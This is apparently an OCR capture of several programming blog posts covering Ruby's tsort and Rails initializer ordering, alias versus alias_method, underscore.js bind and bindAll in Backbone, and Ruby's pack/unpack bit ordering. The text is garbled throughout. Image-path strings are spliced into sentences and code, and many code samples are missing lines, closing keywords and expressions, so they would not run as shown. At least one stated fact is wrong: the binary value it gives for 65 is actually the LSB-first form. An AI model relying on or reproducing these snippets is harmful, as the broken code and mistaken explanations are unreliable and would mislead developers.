require "tsort"class Project
  attr_accessor :before, :after, :name
  def initialize(name, options = {})
    @name = name
    @before, @after = options[:before], options[:after]

class Sorter
  include TSort

  def initialize(col)
    @col = col

  def tsort_each_node(&block)

  def tsort_each_child(project, &block) { |i| i.before == || == project.after }.each(&block)

r2  = :r2, after: :r11
r3  = :r3, before: :r8
r5  = :r5, before: :r11
r7  = :r7, before: :r11
r8  = :r8, after: :r7, before: :r9
r9  = :r9, after: :r11
r10 = :r10, after: :r3
r11 = :r11, before: :r10

col = [r5, r2, r11, r3, r10, r9, r7, r8, r5]

result =

Here is the result.

[:r5, :r7, :r11, :r2, :r3, :r10, :r8, :r9]

Sorting of rails initializer

If you have written a rails plugin then you can use code like this

initializer 'my_plugin_initializer',after: 'to_prepare', before: 'before_eager_load' do |app|The way rails figures out the exact order in which initializer should be executed is exactly same as I illustrated above. Here is the code from rails.

alias :tsort_each_node :each
def tsort_each_child(initializer, &block)
  select { |i| i.before == || == initializer.after }.each(&block)
initializers.tsort.each do |initializer|*args) if initializer.belongs_to?(group)

When Rails boots it invokes a lot of initializers. Rails uses tsort to get the order in which initializers should be invoked. Here is the list of unsorted initializers. After sorting the initializers list is this .

Where else it is used

Bundler uses tsort to find the order in which gems should be installed.Tsort can also be used to statically analyze programming code by looking at method dependency graph.

Image source:

alias vs alias_method

It comes up very often. Should I use alias or alias_method . Let’s take a look at them in a bit detail.

Usage of alias

class User

  def full_name
    puts "Johnnie Walker"alias name full_name
end #=>Johnnie Walker

Usage of alias_method

class User

  def full_name
    puts "Johnnie Walker"alias_method :name, :full_name
end #=>Johnnie Walker

First difference you will notice is that in case of alias_method we need to use a comma between the “new method name” and “old method name”.

alias_method takes both symbols and strings as input. Following code would also work.

alias_method 'name', 'full_name'

That was easy. Now let’s take a look at how scoping impacts usage of alias and alias_method .

Scoping with aliasclass User

  def full_name
    puts "Johnnie Walker"

  def self.add_rename
    alias_method :name, :full_name

class Developer < User
  def full_nameputs "Geeky geek"
end #=> 'Gekky geek'

In the above case method “name” picks the method “full_name” defined in “Developer” class. Now let’s try with alias.

class User

  def full_name
    puts "Johnnie Walker"

  def self.add_rename
    alias :name :full_name

class Developer < User
  def full_name
    puts "Geeky geek"
end #=> 'Johnnie Walker'

With the usage of alias the method “name” is not able to pick the method “full_name” defined in Developer.This is because alias is a keyword and it is lexically scoped. It means it treats self as the value of self at the time the source code was read . In contrast alias_method treats self as the value determined at the run time.

Overall my recommendation would be to use alias_method. Since alias_method is a method defined in class Module it can be overridden later and it offers more flexibility.

Understanding bind andbindAll in Backbone.js

Backbone.js users use bind and bindAll methods provide by underscore.js a lot.In this blog I am going to discuss why these methods are needed and how it all works.

It all starts with apply

Function bindAll internally uses bind . And bind internally uses apply. So it is important to understand what apply does.

var func = function beautiful(){
  alert(this + ' is beautiful');

If I execute above code then I get [object window] is beautiful. I am getting that message because when function is invoked then this is window, the default global object.

In order to change the value of this we can make use of method apply as given below.

var func = function beautiful(){
  alert(this + ' is beautiful');

In the above case the alert message will be Internet is beautiful . Similarly following code will produce Beach is beautiful .

var func = function beautiful(){
  alert(this + ' is beautiful');
func.apply('Beach'); //Beach is beautiful

In short, apply lets us control the value of this when the function is invoked.

Why bind is needed

In order to understand why bind method is needed first let’s look at following example.

function Developer(skill) {
  this.skill = skill;
  this.says = function(){
    alert(this.skill + ' rocks!');
var john = new Developer('Ruby');
john.says(); //Ruby rocks!

Above example is pretty straight forward. john is an instance of Developer and when says function is invoked then we get the right alert message.Notice that when we invoked says we invoked like this john.says(). If we just want to get hold of the function that is returned by says then we need to do john.says. So the above code could be broken down to following code.

function Developer(skill){
  this.skill = skill;
  this.says = function(){
    alert(this.skill + ' rocks!');
var john = new Developer('Ruby');
var func = john.says;
func();// undefined rocks!

Above code is similar to the code above it. All we have done is to store the function in a variable called func. If we invoke this function then we should get the alert message we expected. However if we run this code then the alert message will be undefined rocks!.

We are getting undefined rocks! because in this case func is being invoked in the global context. this is pointing to global object called window when the function is executed. And window does not have any attribute called skill . Hence the output of this.skill is undefined.

Earlier we saw that using apply we can fix the problem arising out of this. So lets try to use apply to fix it.

function Developer(skill) {
  this.skill = skill;
  this.says = function(){alert(this.skill + ' rocks!');
var john = new Developer('Ruby');
var func = john.says;

Above code fixes our problem. This time the alert message we got was Ruby rocks!. However there is an issue and it is a big one.

In JavaScript world functions are first class citizens. The reason why we create function is so that we can easily pass it around. In the above case we created a function called func. However along with the function func now we need to keep passing john around. That is not a good thing. Secondly theresponsibility of rightly invoking this function has been shifted from the function creator to the function consumer. That’s not a good API.

We should try to create functions which can easily be called by the consumers of the function. This is where bind comes in.

How bind solves the problem

First lets see how using bind solves the problem.

function Developer(skill) {
  this.skill = skill;
  this.says = function(){
    alert(this.skill + ' rocks!');
var john = new Developer('Ruby');var func = _.bind(john.says, john);
func();// Ruby rocks!

To solve the problem regarding this issue we need a function that is already mapped to john so that we do not need to keep carrying john around. That’s precisely what bind does. It returns a new function and this new function has this bound to the value that we provide.

Here is a snippet ofcode from bind method

return function() {
  return func.apply(obj, args.concat(;

As you can see bind internally uses apply to set this to the second parameter we passed while invoking bind.

Notice that bind does not change existing function. It returns a new function and that new function should be used.

How bindAll solves the problem

Instead of bind we can also use bindAll . Here is solution with bindAll.

function Developer(skill) {
  this.skill = skill;
  this.says = function(){
    alert(this.skill + ' rocks!');
var john = new Developer('Ruby');
_.bindAll(john, 'says');
var func = john.says;
func(); //Ruby rocks!

Above code is similar to bind solution but there are some big differences.

The first big difference is that we do not have to worry about the returned value of bindAll . In case of bind we must use thereturned function. In bindAll we do not have to worry about the returned value but it comes with a price. bindAll actually mutates the function. What does that mean.

See john object has an attribute called says which returns a function . bindAll goes and changes the attribute says so that when it returns a function, that function is already bound to john.

Here is a snippet of code from bindAll method.

function(f) { obj[f] = _.bind(obj[f], obj); }

Notice that bindAll internally calls bind and it overrides the existing attribute with the function returned by bind.

The other difference between bind and bindAll isthat in bind first parameter is a function john.says and the second parameter is the value of this john. In bindAll first parameter is value of this john and the second parameter is not a function but the attribute name.

Things to watch out for

While developing a Backbone.js application someone had code like this

window.ProductView = Backbone.View.extend({initialize: function(){
    _.bind(this.render, this);
    this.model.bind('change', this.render);

Above code will not work because the returned value of bind is not being used. The correct usage will be

window.ProductView = Backbone.View.extend({
  initialize: function() {
    this.model.bind('change', _.bind(this.render, this));

Or you can use bindAll as given below.

window.ProductView = Backbone.View.extend({
  initialize: function() {
    _.bindAll(this, this.render);
    this.model.bind('change', this.render);

If you like this blog then most likely you will also like our videos series on “Understanding this in JavaScript” at Learn JavaScript .

Ruby pack unpackC programming language allows developers to directly access the memory where variables are stored. Ruby does not allow that. There are times while working in Ruby when you need to access the underlying bits and bytes. Ruby provides two methods pack and unpack for that.

Here is an example.

> 'A'.unpack('b*')
=> ["10000010"]

In the above case ‘A’ is a string which is being stored and using unpack I am trying to read the bit value. The ASCII table says that ASCII value of ‘A’ is 65 and the binary representation of 65 is 10000010 .

Here is another example.

> 'A'.unpack('B*')
=> ["01000001"]

Notice the difference in result from the first case. What’s the difference between b* and B*. In order to understand the difference first lets discuss MSB and LSB.

Most significant bit vs Leastsignificant bit

All bits are not created equal. C has ascii value of 67. The binary value of 67 is 1000011.

First let’s discuss MSB (most significant bit) style . If you are following MSB style then going from left to right (and you always go from left to right) then the most significant bit will come first. Because the most significant bit comes first we can pad an additional zero to the left to make the number of bits eight. After adding an additional zero to the left the binary value looks like 01000011.

If we want to convert this value in the LSB (Least Significant Bit) style then we need to store the least significant bit first going from left to right. Given below is how the bits will be moved if we are converting from MSB to LSB. Note that in the below case position 1 is being referred to the leftmost bit.

move value 1 from position 8 of MSB to position 1 of LSB
move value 1 from position 7 of MSB to position 2 of LSB
move value 0 from position 6 of MSB to position 3 of LSB
and so on and so forth

After the exercise is over the value will look like 11000010.

We did this exercise manually to understand the difference between most significant bit and least significant bit. However unpack method can directly give the result in both MSB and LSB. The unpack method can take both b* and B* as the input. As per the ruby documentation here is the difference.

B | bit string (MSB first)
b | bit string (LSB first)

